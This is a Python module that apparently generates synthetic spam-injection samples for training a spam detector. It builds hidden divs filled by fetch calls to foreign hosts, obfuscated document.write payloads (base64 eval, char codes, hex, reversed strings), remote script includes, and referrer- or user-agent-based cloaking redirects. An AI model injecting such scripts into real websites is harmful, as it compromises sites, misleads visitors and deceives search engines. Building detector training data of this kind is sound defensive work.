"""Spam that scripts write, fetch or lead to."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING
from urllib.parse import quote

from spamguard.training.hosts import letters
from spamguard.training.registry import family

if TYPE_CHECKING:
    from spamguard.training.scene import Patch, Scene

_BETTING = ("gambling", "adult", "pharmacy", "goods")


def _ascii(text: str) -> str:
    """Write a script string without letters a charset could lack."""
    return "".join(c if c.isascii() else f"\\u{{{ord(c):x}}}" for c in text)


@family("remote-fetch-backlink-loader", (), ("links", "gambling", "keywords"))
def loader(scene: Scene) -> list[Patch]:
    """Build an empty holder and a script that fills it from a foreign host."""
    rng = scene.rng
    label = letters(rng, 3, 6)
    host = scene.make_host(rng, scene.item())
    url = (
        f"https://{host}/{rng.choice(('back.js', 'backlink.txt', 'links.php', 'data.txt', letters(rng, 3, 6) + '.js'))}"
    )
    holder = (
        f'<div id="{label}"{rng.choice((" hidden", chr(32) + "style=" + chr(34) + "display:none" + chr(34)))}></div>'
    )
    fill = f'document.getElementById("{label}").innerHTML'
    script = rng.choice(
        (
            f'fetch("{url}").then(r=>r.text()).then(t=>{fill}=t)',
            f'fetch("{url}").then(function(response){{return response.text()}}).then(function(data){{{fill}=data}})',
            f'var x=new XMLHttpRequest();x.open("GET","{url}");x.onload=function(){{{fill}=x.responseText}};x.send()',
        )
    )
    return [scene.put(scene.tail(), holder + rng.choice(("", "\n")) + f"<script>{script}</script>")]


@family("packed-loader-scripts", (), _BETTING)
def packed(scene: Scene) -> list[Patch]:
    """Scripts that write anchors from an encoded string."""
    rng = scene.rng
    payload = rng.choice(("", " ", "<br>")).join(scene.anchors(1, 8, "many"))
    if rng.random() < 0.3:
        payload = f'<script src="https://{scene.make_host(rng, "")}/{letters(rng, 2, 5)}.js"></script>'
    shape = rng.randrange(5)
    if shape == 0:
        script = f'document.write(unescape("{quote(payload.encode("ascii", "xmlcharrefreplace").decode())}"))'
    elif shape == 1:
        coded = base64.b64encode(f"document.write({_ascii(payload)!r})".encode()).decode()
        script = f'eval(atob("{coded}"))'
    elif shape == 2:
        codes = ",".join(str(b) for b in payload.encode("ascii", "xmlcharrefreplace"))
        script = f"document.write(String.fromCharCode({codes}))"
    elif shape == 3:
        coded = "".join(f"\\x{b:02x}" for b in payload.encode("ascii", "xmlcharrefreplace"))
        script = f'window["document"]["write"]("{coded}")'
    else:
        backwards = (
            payload.encode("ascii", "xmlcharrefreplace")
            .decode()[::-1]
            .replace("\\", "")
            .replace('"', "'")
            .replace("</", "<\\/")
        )
        script = f'document.write("{backwards}".split("").reverse().join(""))'
    at = rng.choice((scene.places.end_of_head(), scene.places.start_of_body(), scene.places.end_of_body()))
    return [scene.put(at, f"<script>{script}</script>")]


@family("referrer-or-agent-switch", (), _BETTING)
def switch(scene: Scene) -> list[Patch]:
    """Visitors from search are led away; search robots get another body."""
    rng = scene.rng
    item = scene.item()
    target = scene.linking("many").href(rng, item)
    engines = rng.choice(("google|bing", "google|yahoo|bing|yandex", "baidu|sogou|so.com", "google"))
    body = f"<h1>{_ascii(item)}<\\/h1>{_ascii(' '.join(scene.items(3, 20)))}"
    script = rng.choice(
        (
            f'if(/{engines}/.test(document.referrer)){{location.replace("{target}")}}',
            f'var r=document.referrer;if(r.indexOf("{engines.split("|")[0]}")>-1){{window.location.href="{target}";}}',
            f'if(/{engines}bot/i.test(navigator.userAgent)){{document.body.innerHTML="{body}";}}',
            f'if(/android|iphone/i.test(navigator.userAgent)&&/{engines}/.test(document.referrer)){{top.location="{target}"}}',
        )
    )
    at = rng.choice((scene.places.end_of_head(), scene.places.end_of_head(), scene.places.start_of_body()))
    return [scene.put(at, f"<script>{script}</script>")]


@family("script-written-links")
def written(scene: Scene) -> list[Patch]:
    """Build a plain ``document.write`` or a text assignment with readable keywords."""
    rng = scene.rng
    anchors = scene.anchors(2, 20)
    body = " ".join(anchors).replace("\\", "").replace("'", '"').replace("</", "<\\/").replace("\n", " ")
    script = rng.choice(
        (
            f"document.write('<div style=\"display:none\">{body}<\\/div>');",
            f"document.body.insertAdjacentHTML('beforeend','{body}');",
            f"var {letters(rng, 1, 3)}='{body}';document.write({letters(rng, 1, 3)});",
        )
    )
    return [scene.put(scene.tail(), f"<script>{_ascii(script)}</script>")]
